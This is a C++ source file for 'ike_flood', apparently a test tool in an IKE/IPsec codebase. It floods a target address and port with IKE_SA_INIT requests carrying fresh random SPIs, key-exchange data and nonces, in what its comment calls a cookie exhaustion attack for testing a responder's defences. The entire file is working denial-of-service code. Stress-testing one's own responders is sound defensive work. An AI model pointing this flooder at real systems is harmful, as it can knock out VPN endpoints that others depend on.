// ike_flood: sends IKE_SA_INIT requests with fresh SPIs and nonces as fast as it can (a cookie
// exhaustion attack) to test a responder's defences. Test tool only.
//   ike_flood <dst ipv4> <port> <count>
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

#include <cstdio>
#include <cstdlib>
#include <random>

#include "host/ike/encoding/message.h"

int main(int argc, char** argv) {
  using namespace ipsec::ike;
  if (argc != 4) {
    std::fprintf(stderr, "usage: ike_flood <dst ipv4> <port> <count>\n");
    return 2;
  }
  int fd = ::socket(AF_INET, SOCK_DGRAM, 0);
  sockaddr_in to{};
  to.sin_family = AF_INET;
  to.sin_port = htons(static_cast<uint16_t>(std::atoi(argv[2])));
  if (fd < 0 || ::inet_pton(AF_INET, argv[1], &to.sin_addr) != 1) return 2;
  long count = std::atol(argv[3]);
  std::mt19937_64 rng(42);
  Message m;
  m.header.exchange_type = ExchangeType::kIkeSaInit;
  m.header.initiator = true;
  Proposal p;
  p.protocol = ProtocolId::kIke;
  p.transforms = {Transform::Encr(EncrId::kAesGcm16, 256), Transform::Prf(PrfId::kHmacSha2_256),
                  Transform::Dh(DhGroup::kCurve25519)};
  m.payloads.emplace_back(SaPayload{{p}});
  KePayload ke;
  ke.group = DhGroup::kCurve25519;
  ke.data.resize(32);
  m.payloads.emplace_back(ke);
  m.payloads.emplace_back(NoncePayload{std::vector<std::byte>(32)});
  long sent = 0;
  for (long i = 0; i < count; ++i) {
    m.header.spi_i = rng() | 1;
    auto& k = std::get<KePayload>(m.payloads[1]).data;
    for (auto& b : k) b = std::byte(rng());
    auto& n = std::get<NoncePayload>(m.payloads[2]).nonce;
    for (auto& b : n) b = std::byte(rng());
    auto bytes = Encode(m);
    if (!bytes.ok()) return 1;
    if (::sendto(fd, bytes->data(), bytes->size(), 0, reinterpret_cast<sockaddr*>(&to), sizeof to) > 0) ++sent;
  }
  std::printf("%ld\n", sent);
  return 0;
}
